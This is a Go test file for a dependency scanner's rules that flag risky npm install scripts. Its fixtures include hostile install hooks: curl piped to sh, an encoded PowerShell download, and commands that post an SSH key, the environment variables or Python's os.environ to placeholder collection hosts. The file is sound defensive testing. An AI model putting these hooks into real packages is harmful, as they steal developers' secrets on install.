package install

import (
	"testing"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestLifecycleScript(t *testing.T) {
	rt.Check(t, LifecycleScript{}, []rt.Case{
		{"postinstall", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"node setup.js"}`)}, finding.SeverityLow},
		{"implicit_gyp", map[string]string{"package.json": rt.Pkg(""), "binding.gyp": "{}"}, finding.SeverityInfo},
		{"test_script_only", map[string]string{"package.json": rt.Pkg(`"scripts":{"test":"node test.js"}`)}, finding.SeverityNone},
	})
}

func TestShellDownloadExec(t *testing.T) {
	rt.Check(t, ShellDownloadExec{}, []rt.Case{
		{"curl_pipe_sh", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"curl -s https://setup.example.invalid/i.sh | sh"}`)}, finding.SeverityCritical},
		{"powershell_enc", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"powershell -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"}`)}, finding.SeverityCritical},
		{"secrets_in_sh", map[string]string{
			"package.json": rt.Pkg(`"scripts":{"postinstall":"sh ./hook.sh"}`),
			"hook.sh":      "k=$(cat $HOME/.ssh/id_rsa.pub)\ncurl -d \"k=$k\" https://collect.example.invalid/\n"}, finding.SeverityCritical},
		{"sh_c_command_substitution", map[string]string{"package.json": rt.Pkg(`"scripts":{"preinstall":"bash -c \"$(curl -fsSL https://setup.example.invalid/i.sh)\""}`)}, finding.SeverityCritical},
		{"env_posted", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"curl -X POST -d \"$(env | base64)\" https://collect.example.invalid/e"}`)}, finding.SeverityCritical},
		{"python_environ", map[string]string{"package.json": rt.Pkg(`"scripts":{"postinstall":"python3 -c \"import os,urllib.request as u;u.urlopen('https://c.example.invalid/',data=str(dict(os.environ)).encode())\""}`)}, finding.SeverityCritical},
		// substitutions that fetch nothing
		{"version_substitution", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"sh -c \"$(node -p 'process.arch') build\" && curl --version"}`)}, finding.SeverityNone},
		{"trusted_host_still_high", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"curl -fsSL https://github.com/o/r/releases/download/v1/i.sh | bash"}`)}, finding.SeverityHigh},
		{"benign_build", map[string]string{"package.json": rt.Pkg(`"scripts":{"install":"node-gyp rebuild","postinstall":"node install.js"}`)}, finding.SeverityNone},
		{"sh_not_run_at_install", map[string]string{"package.json": rt.Pkg(""), "tools/release.sh": "curl -s https://x.invalid/a | sh"}, finding.SeverityNone},
	})
}

func TestFetchesPackage(t *testing.T) {
	pkg := func(scripts, deps string) map[string]string {
		return map[string]string{"package.json": rt.Pkg(`"scripts":{` + scripts + `}` + deps)}
	}
	rt.Check(t, FetchesPackage{}, []rt.Case{
		{"npx_latest", pkg(`"postinstall":"npx some-helper@latest setup"`, ""), finding.SeverityMedium},
		{"npx_yes_package", pkg(`"preinstall":"npx --yes -p helper-cli@1 helper run"`, ""), finding.SeverityMedium},
		{"pnpm_dlx_after_cd", pkg(`"install":"cd lib && pnpm dlx tool"`, ""), finding.SeverityMedium},
		{"npm_install_global", pkg(`"postinstall":"npm install -g other-pkg"`, ""), finding.SeverityMedium},
		{"env_wrapped", pkg(`"postinstall":"cross-env NODE_ENV=production npx helper"`, ""), finding.SeverityMedium},
		{"sh_c", pkg(`"postinstall":"sh -c 'npm exec -- helper'"`, ""), finding.SeverityMedium},
		{"github_shorthand", pkg(`"postinstall":"npx someone/tool"`, ""), finding.SeverityHigh},
		{"tarball_url", pkg(`"preinstall":"npm i https://dl.example.invalid/x.tgz"`, ""), finding.SeverityCritical},
		{"release_url", pkg(`"preinstall":"npm i https://github.com/o/r/releases/download/v1/x.tgz"`, ""), finding.SeverityHigh},
		{"git_in_substitution", pkg(`"install":"echo $(npx github:someone/tool)"`, ""), finding.SeverityHigh},
		{"dev_dependency", pkg(`"postinstall":"npx husky install"`, `,"devDependencies":{"husky":"^9"}`), finding.SeverityLow},
		{"prepare_only", pkg(`"prepare":"npx only-allow pnpm"`, ""), finding.SeverityLow},
		// installed with the package, or never fetched
		{"dependency", pkg(`"postinstall":"npx patch-package"`, `,"dependencies":{"patch-package":"^8"}`), finding.SeverityNone},
		{"scoped_dependency_bin", pkg(`"install":"npx node-pre-gyp install --fallback-to-build"`, `,"dependencies":{"@mapbox/node-pre-gyp":"^1"}`), finding.SeverityNone},
		{"own_bin", pkg(`"postinstall":"npx x-setup"`, `,"bin":{"x-setup":"cli.js"}`), finding.SeverityNone},
		{"no_install", pkg(`"postinstall":"npx --no-install helper"`, ""), finding.SeverityNone},
		{"plain_npm_install", pkg(`"postinstall":"npm install --omit=dev"`, ""), finding.SeverityNone},
		{"node_script", pkg(`"postinstall":"node install.js && echo npx"`, ""), finding.SeverityNone},
		{"not_shell", pkg(`"postinstall":"npx \"unterminated"`, ""), finding.SeverityNone},
	})
}
